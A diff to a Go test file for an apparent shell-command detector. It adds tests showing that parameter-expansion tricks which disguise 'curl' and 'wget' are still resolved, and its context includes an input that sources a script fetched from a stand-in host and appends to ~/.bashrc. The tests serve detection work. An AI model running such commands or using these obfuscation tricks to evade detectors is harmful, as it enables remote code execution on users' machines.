@@ -117,6 +117,19 @@ func TestObfuscatedWords(t *testing.T) {
 	}
 }
 
+func TestAnchoredReplace(t *testing.T) {
+	for src, want := range map[string]string{
+		`a=xurl; ${a/#x/c} http://x`:       "curl",
+		`a=curlx; ${a/%x/} http://x`:       "curl",
+		`a=curl; ${a/#u/x} http://x`:       "curl", // not at the start: unchanged
+		`a=wgetwget; ${a/%wget/} http://x`: "wget",
+	} {
+		if c := find(Parse(src, 0), want); c == nil {
+			t.Errorf("%s: %s not resolved: %s", src, want, names(Parse(src, 0)))
+		}
+	}
+}
+
 func TestProcSubstAndRedirs(t *testing.T) {
 	s := Parse("source <(curl -s https://x.example/i)\necho 'x' >> ~/.bashrc\n", 0)
 	c := find(s, "curl")
